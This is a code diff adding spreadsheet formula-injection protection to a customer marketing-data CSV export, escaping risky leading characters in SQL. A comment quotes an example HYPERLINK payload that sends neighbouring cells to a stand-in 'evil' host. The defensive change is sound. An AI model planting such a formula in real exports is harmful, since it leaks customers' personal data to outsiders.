@@ -55,31 +55,60 @@ DEFAULT_RECIPIENT = "Konekesko Oy (own direct marketing)"
 LEGAL_BASIS = "Register description, section 7: disclosure for direct marketing"
 BATCH = 5000
 
+# First characters that make a spreadsheet run a cell as a formula (OWASP, "CSV
+# injection"): `=HYPERLINK("http://evil/?"&A2, "Click")` as a company name would send the
+# neighbouring cells away when the file is opened. Such a cell is written with a leading
+# apostrophe, which spreadsheets read as "text" and programs can strip.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cell(expr: str, *, phone: bool = False) -> str:
+    """SQL for the value of ``expr`` as a CSV cell that no spreadsheet runs as a formula.
+
+    Done in SQL, where the rows are made, rather than per cell in Python: it costs the
+    export almost nothing. An E.164 phone number (``+`` and digits only: the form kkdesk
+    stores) stays as it is in the phone column, because SMS gateways read it as data and
+    a spreadsheet can only compute a number from it (no function, no reference); any other
+    phone value starting with ``+`` — something written outside kkdesk — is neutralised.
+    """
+    starts = ", ".join(f"'{c}'" for c in FORMULA_STARTS)  # our own constants, no input
+    keep = (
+        f" AND NOT (substr({expr}, 1, 1) = '+' AND length({expr}) > 1"
+        f" AND ltrim(substr({expr}, 2), '0123456789') = '')"
+        if phone
+        else ""
+    )
+    quote = "''''"  # SQL for a string of one apostrophe
+    return (
+        f"CASE WHEN substr({expr}, 1, 1) IN ({starts}){keep} THEN {quote} || {expr} ELSE {expr} END"
+    )
+
+
 # Columns of the file per channel: only what that channel needs (data minimisation).
-_NAME = (
+_NAME = _cell(
     "CASE WHEN c.type = 'company' THEN c.company_name ELSE c.first_names || ' ' || c.surname END"
 )
 COLUMNS: dict[MarketingChannel, tuple[tuple[str, str], ...]] = {
     MarketingChannel.POST: (
-        ("customer_number", "c.number"),
+        ("customer_number", _cell("c.number")),
         ("name", _NAME),
-        ("street", "c.street"),
-        ("postal_code", "c.postal_code"),
-        ("post_office", "c.post_office"),
-        ("country", "c.country"),
-        ("language", "c.language"),
+        ("street", _cell("c.street")),
+        ("postal_code", _cell("c.postal_code")),
+        ("post_office", _cell("c.post_office")),
+        ("country", _cell("c.country")),
+        ("language", _cell("c.language")),
     ),
     MarketingChannel.EMAIL: (
-        ("customer_number", "c.number"),
+        ("customer_number", _cell("c.number")),
         ("name", _NAME),
-        ("email", "c.email"),
-        ("language", "c.language"),
+        ("email", _cell("c.email")),
+        ("language", _cell("c.language")),
     ),
     MarketingChannel.SMS: (
-        ("customer_number", "c.number"),
+        ("customer_number", _cell("c.number")),
         ("name", _NAME),
-        ("phone", "c.phone_mobile"),
-        ("language", "c.language"),
+        ("phone", _cell("c.phone_mobile", phone=True)),
+        ("language", _cell("c.language")),
     ),
 }
 
